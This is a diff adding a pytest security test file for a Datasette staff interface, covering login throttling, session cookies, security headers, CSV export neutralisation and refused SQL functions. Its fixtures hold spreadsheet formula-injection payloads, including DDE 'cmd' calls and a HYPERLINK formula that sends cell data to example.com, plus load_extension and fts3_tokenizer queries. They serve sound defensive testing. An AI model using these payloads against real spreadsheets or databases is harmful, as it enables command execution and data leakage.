@@ -1,0 +1,796 @@
+"""Staff Datasette against hostile visitors (issue #13): login guessing, sessions, headers, CSV, SQL.
+
+Through Datasette's own client with the shipped configuration, and once over real HTTP against
+a running ``certreg browse`` (with a real browser for the Content-Security-Policy).
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import hashlib
+import io
+import json
+import os
+import re
+import secrets
+import sqlite3
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from http.cookies import Morsel, SimpleCookie
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import sqlite_utils
+from datasette.app import Datasette
+from datasette.utils import baseconv
+from datasette_auth_passwords.utils import hash_password, verify_password
+from hypothesis import given
+from hypothesis import strategies as st
+
+from datasette_config import config_dir
+from datasette_config.launch import datasette_environment
+from datasette_config.plugins.certreg_csv import CsvNeutraliser
+from datasette_config.plugins.certreg_session import SESSIONS_FILE, session_cookie
+from datasette_config.staff import AccountProblem, dummy_hash, staff_accounts
+from registry.sheets.formulas import neutralise
+from tests.datasette_fixtures import (
+    SAMPLES,
+    STAFF_HASH,
+    STAFF_PASSWORD,
+    STAFF_USER,
+    log_in,
+    shipped_metadata,
+    signed_in,
+    stop,
+    sync,
+    wait_until_listening,
+)
+from tests.servers import free_port
+
+LOGIN = "/-/login"
+TRUSTED_PROXIES = "CERTREG_TRUSTED_PROXIES"
+_, STAFF_ITERATIONS, STAFF_SALT, _ = STAFF_HASH.split("$")
+WORKING_DAY = 10 * 60 * 60
+
+
+@pytest.fixture(autouse=True)
+def no_proxy_from_outside(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each test says itself whether a proxy is trusted (Datasette reads it when it is built)."""
+    monkeypatch.delenv(TRUSTED_PROXIES, raising=False)
+
+
+@pytest.fixture
+def proxied_ds(ds: Datasette, monkeypatch: pytest.MonkeyPatch) -> Datasette:
+    """Datasette behind a reverse proxy at 127.0.0.1 (the test client's address).
+
+    Built after ``ds``, which therefore trusts no proxy (Datasette reads the variable when built).
+    """
+    monkeypatch.setenv(TRUSTED_PROXIES, "127.0.0.1")
+    return datasette_like(ds, secret=None)
+
+
+def database_file(ds: Datasette, name: str) -> Path:
+    path = ds.databases[name].path
+    assert path is not None
+    return Path(path)
+
+
+def datasette_like(ds: Datasette, secret: str | None) -> Datasette:
+    """Another Datasette over the same files with the shipped configuration and a chosen secret."""
+    config = config_dir()
+    return Datasette(
+        [str(database_file(ds, "registry")), str(database_file(ds, "verify_log"))],
+        metadata=shipped_metadata(),
+        plugins_dir=str(config / "plugins"),
+        template_dir=str(config / "templates"),
+        settings=json.loads((config / "settings.json").read_text("utf-8")),
+        secret=secret,
+    )
+
+
+async def attempt(
+    ds: Datasette,
+    username: str,
+    password: str,
+    *,
+    url: str = LOGIN,
+    headers: dict[str, str] | None = None,
+) -> httpx.Response:
+    """One login through the form: fetch it for the CSRF token, then post it."""
+    token = (await ds.client.get(LOGIN)).cookies["ds_csrftoken"]
+    response: httpx.Response = await ds.client.request(
+        "POST",
+        url,
+        avoid_path_rewrites=url.startswith("https:"),
+        data={"username": username, "password": password, "csrftoken": token},
+        cookies={"ds_csrftoken": token},
+        headers=headers or {},
+    )
+    return response
+
+
+def set_cookie(response: httpx.Response, name: str = "ds_actor") -> Morsel[str]:
+    """The response's Set-Cookie for ``name``, parsed with its attributes."""
+    for header in response.headers.get_list("set-cookie"):
+        cookie: SimpleCookie = SimpleCookie()
+        cookie.load(header)
+        if name in cookie:
+            return cookie[name]
+    raise AssertionError(f"no Set-Cookie for {name}: {response.headers}")
+
+
+def is_redirect_to_login(response: httpx.Response) -> bool:
+    return response.status_code == 302 and response.headers["location"] == LOGIN
+
+
+# Guessing passwords
+
+
+@pytest.mark.anyio
+async def test_sixth_wrong_password_within_a_minute_is_refused_even_if_right(
+    ds: Datasette,
+) -> None:
+    for _ in range(5):
+        wrong = await attempt(ds, STAFF_USER, "wrong")
+        assert wrong.status_code == 200
+        assert "用户名或密码不正确" in wrong.text
+    refused = await attempt(ds, STAFF_USER, STAFF_PASSWORD)
+    assert refused.status_code == 429
+    wait = int(refused.headers["retry-after"])
+    assert 1 <= wait <= 60
+    assert f"登录失败次数过多，请 {wait} 秒后再试" in refused.text
+    assert "ds_actor" not in refused.cookies
+
+
+@pytest.mark.anyio
+async def test_throttle_lifts_once_the_failures_are_a_minute_old(
+    ds: Datasette, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for _ in range(5):
+        await attempt(ds, STAFF_USER, "wrong")
+    assert (await attempt(ds, STAFF_USER, STAFF_PASSWORD)).status_code == 429
+    real_time = time.time
+    monkeypatch.setattr(time, "time", lambda: real_time() + 61)
+    assert (await attempt(ds, STAFF_USER, STAFF_PASSWORD)).status_code == 302
+
+
+@pytest.mark.anyio
+async def test_one_client_guessing_many_usernames_is_throttled_whatever_it_forwards(
+    ds: Datasette,
+) -> None:
+    # No trusted proxy: X-Forwarded-For is the guesser's own invention and changes nothing.
+    for i in range(5):
+        forged = {"x-forwarded-for": f"198.51.100.{i}"}
+        assert (await attempt(ds, f"guess{i}", "wrong", headers=forged)).status_code == 200
+    refused = await attempt(ds, STAFF_USER, STAFF_PASSWORD, headers={"x-forwarded-for": "1.2.3.4"})
+    assert refused.status_code == 429
+
+
+@pytest.mark.anyio
+async def test_one_username_guessed_from_many_clients_is_throttled(proxied_ds: Datasette) -> None:
+    for i in range(5):
+        client = {"x-forwarded-for": f"198.51.100.{i}"}
+        assert (await attempt(proxied_ds, STAFF_USER, "wrong", headers=client)).status_code == 200
+    fresh_client = {"x-forwarded-for": "198.51.100.99"}
+    assert (
+        await attempt(proxied_ds, STAFF_USER, STAFF_PASSWORD, headers=fresh_client)
+    ).status_code == 429
+    # Behind the trusted proxy, clients are told apart: another user from another client is
+    # only told the password is wrong.
+    other = await attempt(proxied_ds, "zhaomin", "wrong", headers={"x-forwarded-for": "192.0.2.1"})
+    assert other.status_code == 200
+
+
+@pytest.mark.anyio
+async def test_unknown_username_costs_the_same_password_check_as_a_known_one(
+    ds: Datasette, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    checks: list[tuple[str, int]] = []
+    pbkdf2_hmac = hashlib.pbkdf2_hmac
+
+    def recorded(name: str, password: bytes, salt: bytes, iterations: int, *rest: Any) -> bytes:
+        checks.append((salt.decode(), iterations))
+        return pbkdf2_hmac(name, password, salt, iterations, *rest)
+
+    monkeypatch.setattr(hashlib, "pbkdf2_hmac", recorded)
+    assert (await attempt(ds, STAFF_USER, "wrong")).status_code == 200
+    known, checks[:] = checks[:], []
+    assert (await attempt(ds, "nobody_here", "wrong")).status_code == 200
+    unknown = checks[:]
+    assert known == [(STAFF_SALT, int(STAFF_ITERATIONS))]
+    # One PBKDF2 run with the account's rounds, against a salt that is not the account's.
+    assert [iterations for _, iterations in unknown] == [int(STAFF_ITERATIONS)]
+    assert unknown[0][0] != STAFF_SALT
+
+
+def test_dummy_hash_is_as_costly_as_the_costliest_account_and_matches_nothing() -> None:
+    cheap, dear = hash_password("a", iterations=1000), hash_password("b", iterations=2000)
+    dummy = dummy_hash([cheap, dear])
+    assert dummy.split("$")[1] == "2000"
+    assert not verify_password("a", dummy) and not verify_password("", dummy)
+    assert dummy_hash([]).split("$")[1] == "480000"  # datasette hash-password's default
+    assert dummy_hash([cheap]) != dummy_hash([cheap])
+
+
+@pytest.mark.parametrize(
+    "value", ["123456", "pbkdf2_sha256$", "pbkdf2_sha256$many$salt$abc=", "pbkdf2_sha256$1000$s$"]
+)
+def test_account_must_be_a_whole_password_hash(value: str) -> None:
+    with pytest.raises(AccountProblem, match="不是密码哈希"):
+        staff_accounts({"CERTREG_STAFF_wangli": value})
+    assert staff_accounts({"CERTREG_STAFF_wangli": STAFF_HASH}) == {
+        "wangli": "CERTREG_STAFF_wangli"
+    }
+
+
+@pytest.mark.anyio
+async def test_http_basic_credentials_are_no_way_in(
+    ds: Datasette, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # datasette-auth-passwords would accept these on any URL, unthrottled and sessionless
+    # (and answer 500 for a non-ASCII password).
+    monkeypatch.setenv("CERTREG_STAFF_plain", hash_password("plain-password", iterations=1000))
+    for credentials in ("plain:plain-password", f"{STAFF_USER}:{STAFF_PASSWORD}"):
+        basic = base64.b64encode(credentials.encode()).decode()
+        response = await ds.client.get(
+            "/registry/certificates.json", headers={"authorization": f"Basic {basic}"}
+        )
+        assert is_redirect_to_login(response)
+        # Not even on the pages anyone may see (where the plugin's parser used to fail: 500).
+        form = await ds.client.get(LOGIN, headers={"authorization": f"Basic {basic}"})
+        assert form.status_code == 200
+        assert "/-/logout" not in form.text
+
+
+# The session cookie
+
+
+@pytest.mark.anyio
+async def test_login_cookie_is_httponly_lax_and_lasts_a_working_day(ds: Datasette) -> None:
+    signed = await attempt(ds, STAFF_USER, STAFF_PASSWORD)
+    assert signed.status_code == 302
+    cookie = set_cookie(signed)
+    assert cookie["httponly"] is True
+    assert cookie["samesite"].lower() == "lax"
+    assert cookie["max-age"] == str(WORKING_DAY)
+    assert not cookie["secure"]  # plain http: a Secure cookie would never come back
+    session = ds.unsign(cookie.value, "actor")
+    assert session["a"] == {"id": STAFF_USER}
+    expires = baseconv.base62.decode(session["e"])
+    assert time.time() + WORKING_DAY - 60 < expires <= time.time() + WORKING_DAY
+    assert len(session["s"]) >= 20
+
+
+@pytest.mark.anyio
+async def test_login_over_https_sets_a_secure_cookie(ds: Datasette) -> None:
+    signed = await attempt(ds, STAFF_USER, STAFF_PASSWORD, url="https://localhost/-/login")
+    assert set_cookie(signed)["secure"] is True
+    assert signed.headers["strict-transport-security"] == "max-age=31536000"
+
+
+@pytest.mark.anyio
+async def test_forwarded_https_counts_only_from_a_trusted_proxy(
+    ds: Datasette, proxied_ds: Datasette
+) -> None:
+    https = {"x-forwarded-proto": "https"}
+    behind_proxy = await attempt(proxied_ds, STAFF_USER, STAFF_PASSWORD, headers=https)
+    assert set_cookie(behind_proxy)["secure"] is True
+    assert "strict-transport-security" in behind_proxy.headers
+    direct = await attempt(ds, STAFF_USER, STAFF_PASSWORD, headers=https)
+    assert not set_cookie(direct)["secure"]
+    assert "strict-transport-security" not in direct.headers
+
+
+def _signed(ds: Datasette, value: dict[str, Any]) -> str:
+    signed: str = ds.sign(value, "actor")
+    return signed
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "cookie",
+    [
+        # What datasette-auth-passwords issues: no expiry, no session — valid forever.
+        lambda ds: _signed(ds, {"a": {"id": STAFF_USER}}),
+        lambda ds: _signed(
+            ds, {"a": {"id": STAFF_USER}, "e": baseconv.base62.encode(int(time.time()) + 60)}
+        ),
+        lambda ds: session_cookie(ds, {"id": STAFF_USER}, now=time.time() - WORKING_DAY - 1),
+        # Signed for longer than a working day.
+        lambda ds: _signed(
+            ds,
+            {
+                "a": {"id": STAFF_USER},
+                "e": baseconv.base62.encode(int(time.time()) + 30 * 86400),
+                "s": "a-session-id-of-a-long-day",
+            },
+        ),
+    ],
+    ids=["no-session", "no-session-id", "expired", "too-long"],
+)
+async def test_cookie_that_is_not_a_live_session_is_refused_and_deleted(
+    ds: Datasette, cookie: Any
+) -> None:
+    response = await ds.client.get("/registry", cookies={"ds_actor": cookie(ds)})
+    assert is_redirect_to_login(response)
+    deleted = set_cookie(response)
+    assert deleted.value == "" and deleted["max-age"] == "0"
+    control = await ds.client.get("/registry", cookies=signed_in(ds))
+    assert control.status_code == 200
+
+
+async def _logout(ds: Datasette, cookie: str) -> httpx.Response:
+    token = (await ds.client.get(LOGIN)).cookies["ds_csrftoken"]
+    response: httpx.Response = await ds.client.post(
+        "/-/logout",
+        data={"csrftoken": token},
+        cookies={"ds_actor": cookie, "ds_csrftoken": token},
+    )
+    return response
+
+
+@pytest.mark.anyio
+async def test_logout_kills_the_cookie_even_when_replayed(ds: Datasette) -> None:
+    cookie = set_cookie(await attempt(ds, STAFF_USER, STAFF_PASSWORD)).value
+    assert (await ds.client.get("/registry", cookies={"ds_actor": cookie})).status_code == 200
+    page = await ds.client.get("/-/logout", cookies={"ds_actor": cookie})
+    assert page.status_code == 200 and 'action="/-/logout"' in page.text
+    out = await _logout(ds, cookie)
+    assert out.status_code == 302
+    assert set_cookie(out).value == ""
+    for path in ("/registry", "/registry/certificates.json", "/-/actor.json"):
+        replay = await ds.client.get(path, cookies={"ds_actor": cookie})
+        assert is_redirect_to_login(replay), path
+
+
+@pytest.mark.anyio
+async def test_logout_survives_a_restart_and_stores_no_session_id(ds: Datasette) -> None:
+    secret = "a stable DATASETTE_SECRET"
+    first = datasette_like(ds, secret)
+    ended = set_cookie(await attempt(first, STAFF_USER, STAFF_PASSWORD)).value
+    kept = set_cookie(await attempt(first, STAFF_USER, STAFF_PASSWORD)).value
+    assert (await _logout(first, ended)).status_code == 302
+
+    restarted = datasette_like(ds, secret)
+    assert is_redirect_to_login(await restarted.client.get("/", cookies={"ds_actor": ended}))
+    assert (await restarted.client.get("/", cookies={"ds_actor": kept})).status_code == 200
+
+    session_id = first.unsign(ended, "actor")["s"]
+    stored = sqlite3.connect(database_file(ds, "registry").parent / SESSIONS_FILE)
+    try:
+        rows = stored.execute("SELECT digest FROM revoked_sessions").fetchall()
+    finally:
+        stored.close()
+    assert (hashlib.sha256(session_id.encode()).hexdigest(),) in rows
+    assert all(session_id not in digest for (digest,) in rows)
+
+
+# Headers and paths
+
+PAGES = [
+    ("/", True),
+    ("/registry", True),
+    ("/registry/certificates", True),
+    ("/registry/certificates/Z1122020123", True),
+    ("/registry/certificate?证书编号=Z1122020123", True),
+    ("/registry?sql=select+number+from+certificates+limit+2", True),
+    ("/registry/certificates.json", True),
+    ("/registry/certificates.csv", True),
+    ("/registry/no_such_table", True),
+    ("/-/logout", True),
+    (LOGIN, False),
+    ("/-/static/app.css", False),
+    ("/registry/certificates", False),
+]
+
+
+def assert_security_headers(response: httpx.Response) -> None:
+    csp = response.headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in csp
+    assert "default-src 'self'" in csp
+    assert response.headers["x-frame-options"] == "DENY"
+    assert response.headers["referrer-policy"] == "no-referrer"
+    assert response.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(("path", "staff"), PAGES)
+async def test_every_response_carries_the_security_headers(
+    ds: Datasette, path: str, staff: bool
+) -> None:
+    response = await ds.client.get(path, cookies=signed_in(ds) if staff else None)
+    assert_security_headers(response)
+    assert "strict-transport-security" not in response.headers  # plain http
+    secure = await ds.client.request(
+        "GET",
+        f"https://localhost{path}",
+        avoid_path_rewrites=True,
+        cookies=signed_in(ds) if staff else None,
+    )
+    assert secure.headers["strict-transport-security"] == "max-age=31536000"
+
+
+@pytest.mark.anyio
+async def test_refusals_carry_the_security_headers_too(ds: Datasette) -> None:
+    refused = await ds.client.post("/registry", cookies=signed_in(ds))
+    assert refused.status_code == 405
+    assert_security_headers(refused)
+
+
+SCRIPT_PAGES = [
+    "/",
+    "/registry",
+    "/registry/certificates",
+    "/registry/certificates?_facet=level",
+    "/registry/certificates/Z1122020123",
+    "/registry/certificate?证书编号=Z1122020123",
+    "/registry?sql=select+number+from+certificates+limit+2",
+    "/-/logout",
+    LOGIN,
+]
+INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.DOTALL)
+
+
+@pytest.mark.anyio
+async def test_every_inline_script_is_allowed_by_its_hash_and_no_other(ds: Datasette) -> None:
+    seen = 0
+    for path in SCRIPT_PAGES:
+        response = await ds.client.get(path, cookies=signed_in(ds))
+        assert response.status_code == 200, path
+        directives = dict(
+            (d.split()[0], d.split()[1:])
+            for d in response.headers["content-security-policy"].split("; ")
+        )
+        assert "'unsafe-inline'" not in directives["script-src"]
+        for script in INLINE_SCRIPT.findall(response.text):
+            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+            assert f"'sha256-{digest}'" in directives["script-src"], (path, script[:60])
+            seen += 1
+    assert seen >= len(SCRIPT_PAGES)  # every page has at least Datasette's menu script
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("path", "staff_status"),
+    [
+        ("/registry/certificates/-/json", 404),
+        ("//registry.json", 404),
+        ("/registry/no_such_table", 404),
+        ("/no_such_database.json", 404),
+        ("/-/password-tool", 200),
+    ],
+)
+async def test_anonymous_visitors_only_ever_get_the_login_redirect(
+    ds: Datasette, path: str, staff_status: int
+) -> None:
+    anonymous = await ds.client.get(path)
+    assert is_redirect_to_login(anonymous)
+    assert (await ds.client.get(path, cookies=signed_in(ds))).status_code == staff_status
+
+
+# CSV exports
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://example.com/?"&A1,"点击")',
+]
+HARMLESS = ["-3", "-2.5", "0", "Z1122020123", "周杰", "a=b", "", 'say "hi", then\r\nleave']
+
+
+def test_neutralise_follows_the_owasp_rule_but_keeps_negative_numbers() -> None:
+    assert [neutralise(cell) for cell in HOSTILE] == ["'" + cell for cell in HOSTILE]
+    assert [neutralise(cell) for cell in HARMLESS] == HARMLESS
+    assert neutralise("-3-1") == "'-3-1"
+    assert neutralise("-3e5") == "'-3e5"
+
+
+def _csv(rows: list[list[str]]) -> bytes:
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    return out.getvalue().encode("utf-8")
+
+
+@given(
+    rows=st.lists(
+        st.lists(st.sampled_from(HOSTILE + HARMLESS) | st.text(), min_size=1, max_size=4),
+        max_size=6,
+    ),
+    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=8),
+)
+def test_streamed_csv_is_neutralised_however_it_is_cut(
+    rows: list[list[str]], cuts: list[int]
+) -> None:
+    data = _csv(rows)
+    expected = _csv([[neutralise(cell) for cell in row] for row in rows])
+    neutraliser = CsvNeutraliser()
+    out, start = b"", 0
+    for cut in sorted(c for c in cuts if c <= len(data)):  # anywhere, even inside a character
+        out += neutraliser.feed(data[start:cut])
+        start = cut
+    out += neutraliser.feed(data[start:], final=True)
+    assert out == expected
+
+
+@pytest.fixture
+def hostile_checks(ds: Datasette) -> str:
+    """Checks whose number a visitor typed into the public form: formulas, from one new client."""
+    client = f"hostile-{secrets.token_hex(4)}"
+    log = sqlite_utils.Database(database_file(ds, "verify_log"))
+    try:
+        log.table("checks").insert_all(
+            {
+                "at": "2026-01-01T00:00:00+00:00",
+                "client": client,
+                "number": number,
+                "result": "malformed",
+                "name_hash": "c" * 64,
+                "channel": "page",
+            }
+            for number in HOSTILE + HARMLESS
+        )
+    finally:
+        log.close()
+    return client
+
+
+def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.text, newline="")))
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("options", [{}, {"_stream": "on"}, {"_dl": "1"}, {"_size": "2"}])
+async def test_table_csv_neutralises_formulas(
+    ds: Datasette, hostile_checks: str, options: dict[str, str]
+) -> None:
+    response = await ds.client.get(
+        "/verify_log/checks.csv",
+        params={"client": hostile_checks, "_sort": "id", **options},
+        cookies=signed_in(ds),
+    )
+    numbers = [row["number"] for row in csv_rows(response)]
+    expected = ["'" + cell for cell in HOSTILE] + HARMLESS
+    assert numbers == expected[: len(numbers)]
+    assert len(numbers) == (2 if options.get("_size") else len(expected))
+
+
+@pytest.mark.anyio
+async def test_query_and_row_csv_neutralise_formulas(ds: Datasette) -> None:
+    sql = (
+        "select '=1+1' as \"=formula\", '@SUM(1)' as at, -3 as balance, '-1+2' as sum,"
+        " char(9) || '=1' as tab, 'x,\"y\"' as quoted, '周杰' as name"
+    )
+    response = await ds.client.get("/registry.csv", params={"sql": sql}, cookies=signed_in(ds))
+    assert csv_rows(response) == [
+        {
+            "'=formula": "'=1+1",
+            "at": "'@SUM(1)",
+            "balance": "-3",
+            "sum": "'-1+2",
+            "tab": "'\t=1",
+            "quoted": 'x,"y"',
+            "name": "周杰",
+        }
+    ]
+    row = await ds.client.get("/registry/certificates/Z1122020123.csv", cookies=signed_in(ds))
+    assert csv_rows(row)[0]["name"] == "周杰"
+
+
+@pytest.mark.anyio
+async def test_table_csv_is_otherwise_unchanged(ds: Datasette) -> None:
+    params = {"_sort": "number", "_size": "max"}
+    exported = await ds.client.get(
+        "/registry/certificates.csv", params=params, cookies=signed_in(ds)
+    )
+    as_json = await ds.client.get(
+        "/registry/certificates.json",
+        params={**params, "_shape": "objects"},
+        cookies=signed_in(ds),
+    )
+    expected = [
+        {k: "" if v is None else str(v) for k, v in row.items()} for row in as_json.json()["rows"]
+    ]
+    assert csv_rows(exported) == expected
+    assert len(expected) > 10
+
+
+# SQL functions that leak the server's memory
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "select fts3_tokenizer('simple')",
+        "select \"fts3_tokenizer\"('porter')",
+        "select [FTS3_Tokenizer]('simple')",
+        "select number from certificates where fts3_tokenizer('simple') is not null",
+        "select load_extension('/tmp/x.so')",
+    ],
+)
+async def test_functions_that_reach_outside_the_data_are_refused_in_chinese(
+    ds: Datasette, sql: str
+) -> None:
+    answer = await ds.client.get("/registry.json", params={"sql": sql}, cookies=signed_in(ds))
+    assert answer.status_code == 400
+    assert answer.json()["rows"] == []
+    assert "职员查询不允许使用 SQL 函数" in answer.json()["error"]
+    page = await ds.client.get("/registry", params={"sql": sql}, cookies=signed_in(ds))
+    assert page.status_code == 400
+    assert "职员查询不允许使用 SQL 函数" in page.text
+    exported = await ds.client.get("/registry.csv", params={"sql": sql}, cookies=signed_in(ds))
+    assert exported.text.strip() == ""  # Datasette's CSV of a failed query is empty
+
+
+@pytest.mark.anyio
+async def test_fts3_tokenizer_refusal_says_why(ds: Datasette) -> None:
+    answer = await ds.client.get(
+        "/registry.json", params={"sql": "select fts3_tokenizer('simple')"}, cookies=signed_in(ds)
+    )
+    assert answer.json()["error"] == (
+        "职员查询不允许使用 SQL 函数 fts3_tokenizer：它会返回服务器进程的内存地址。"
+        "请去掉该函数后再查询。"
+    )
+
+
+@pytest.mark.anyio
+async def test_ordinary_and_registry_functions_still_work(ds: Datasette) -> None:
+    # Naming the function in a string is no call to it.
+    sql = "select upper('z') as u, normalise_number('ｚ１１-2202-0123') as n, 'fts3_tokenizer' as f"
+    answer = await ds.client.get(
+        "/registry.json", params={"sql": sql, "_shape": "array"}, cookies=signed_in(ds)
+    )
+    assert answer.json() == [{"u": "Z", "n": "Z1122020123", "f": "fts3_tokenizer"}]
+
+
+def test_uvicorn_believes_proxy_headers_only_from_trusted_proxies() -> None:
+    trusted = datasette_environment(
+        {TRUSTED_PROXIES: "127.0.0.1, 10.0.0.0/8", "FORWARDED_ALLOW_IPS": "*", "HOME": "/x"}
+    )
+    assert trusted["FORWARDED_ALLOW_IPS"] == "127.0.0.1,10.0.0.0/8"
+    assert trusted["HOME"] == "/x"
+    assert datasette_environment({"FORWARDED_ALLOW_IPS": "*"})["FORWARDED_ALLOW_IPS"] == ""
+
+
+# A real `certreg browse` over HTTP
+
+SECRET = "fedcba9876543210" * 4
+CHROMIUM = "/usr/bin/chromium"
+
+
+@pytest.fixture(scope="module")
+def browse_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """`certreg browse` over the samples, behind a (pretend) proxy at 127.0.0.1."""
+    db = tmp_path_factory.mktemp("browse") / "registry.db"
+    assert sync(SAMPLES, db) == 0
+    port = free_port()
+    env = {
+        name: value
+        for name, value in os.environ.items()
+        if not name.startswith("CERTREG_STAFF_") and name != "DATASETTE_SECRET"
+    }
+    env.update(
+        {
+            f"CERTREG_STAFF_{STAFF_USER}": STAFF_HASH,
+            "DATASETTE_SECRET": SECRET,
+            TRUSTED_PROXIES: "127.0.0.1",
+        }
+    )
+    process = subprocess.Popen(
+        [sys.executable, "-m", "registry", "browse", "--db", str(db), "--port", str(port)],
+        env=env,
+    )
+    try:
+        wait_until_listening(process, port)
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        stop(process)
+
+
+def test_real_http_headers_and_no_500_for_odd_paths(browse_url: str) -> None:
+    with httpx.Client(base_url=browse_url) as client:
+        for path, status in [
+            (LOGIN, 200),
+            ("/-/static/app.css", 200),
+            ("/", 302),
+            ("/registry/certificates/-/json", 302),
+            ("//registry.json", 302),
+            ("/registry/certificates.csv", 302),
+        ]:
+            response = client.get(path)
+            assert response.status_code == status, path
+            assert_security_headers(response)
+            assert "strict-transport-security" not in response.headers
+            if status == 302:
+                assert response.headers["location"] == LOGIN
+
+
+def test_real_http_cookie_flags_logout_and_replay(browse_url: str) -> None:
+    with httpx.Client(base_url=browse_url) as client:
+        signed = log_in(client, STAFF_USER, STAFF_PASSWORD)
+        assert signed.status_code == 302
+        cookie = set_cookie(signed)
+        assert cookie["httponly"] is True
+        assert cookie["samesite"].lower() == "lax"
+        assert cookie["max-age"] == str(WORKING_DAY)
+        assert not cookie["secure"]
+        assert client.get("/registry").status_code == 200
+        token = client.cookies["ds_csrftoken"]
+        assert client.post("/-/logout", data={"csrftoken": token}).status_code == 302
+    with httpx.Client(base_url=browse_url, cookies={"ds_actor": cookie.value}) as replay:
+        refused = replay.get("/registry/certificates.json")
+        assert refused.status_code == 302
+        assert refused.headers["location"] == LOGIN
+
+
+def test_real_http_behind_https_proxy_secure_cookies_and_hsts(browse_url: str) -> None:
+    # The proxy at 127.0.0.1 says the visitor came over https. (httpx keeps Secure cookies
+    # to itself over plain http, so the CSRF cookie goes back by hand.)
+    with httpx.Client(base_url=browse_url, headers={"x-forwarded-proto": "https"}) as client:
+        form = client.get(LOGIN)
+        csrf = set_cookie(form, "ds_csrftoken")
+        assert csrf["secure"] is True
+        assert form.headers["strict-transport-security"] == "max-age=31536000"
+        signed = client.post(
+            LOGIN,
+            data={"username": STAFF_USER, "password": STAFF_PASSWORD, "csrftoken": csrf.value},
+            headers={"cookie": f"ds_csrftoken={csrf.value}"},
+        )
+        assert signed.status_code == 302
+        assert set_cookie(signed)["secure"] is True
+        assert signed.headers["strict-transport-security"] == "max-age=31536000"
+
+
+@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium not installed")
+def test_real_browser_runs_datasette_pages_without_csp_violations(browse_url: str) -> None:
+    sync_api = pytest.importorskip("playwright.sync_api")
+    violations: list[str] = []
+    with sync_api.sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        try:
+            page = browser.new_page()
+            page.on(
+                "console",
+                lambda m: (
+                    violations.append(m.text) if "Content Security Policy" in m.text else None
+                ),
+            )
+            page.add_init_script(
+                "window.__violations = [];"
+                "document.addEventListener('securitypolicyviolation',"
+                " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
+            )
+            page.goto(browse_url + LOGIN)
+            page.fill("#id_username", STAFF_USER)
+            page.fill("#id_password", STAFF_PASSWORD)
+            page.click("input[type=submit]")
+            page.wait_for_url(browse_url + "/")
+            for path in [
+                "/",
+                "/registry/certificates",
+                "/registry/certificates/Z1122020123",
+                "/registry/certificate?证书编号=Z1122020123",
+                "/registry?sql=select+number,+name+from+certificates+limit+3",
+            ]:
+                page.goto(browse_url + path)
+                page.wait_for_load_state("load")
+                violations += page.evaluate("window.__violations")
+                if path == "/registry/certificates":
+                    # table.html's inline script ran, and table.js (which needs it) too.
+                    assert page.evaluate("typeof DATASETTE_ALLOW_FACET") == "boolean"
+                if path.startswith("/registry?sql"):
+                    # _codemirror_foot.html's inline onload script turned the textarea into an editor.
+                    page.wait_for_selector(".CodeMirror")
+        finally:
+            browser.close()
+    assert violations == []
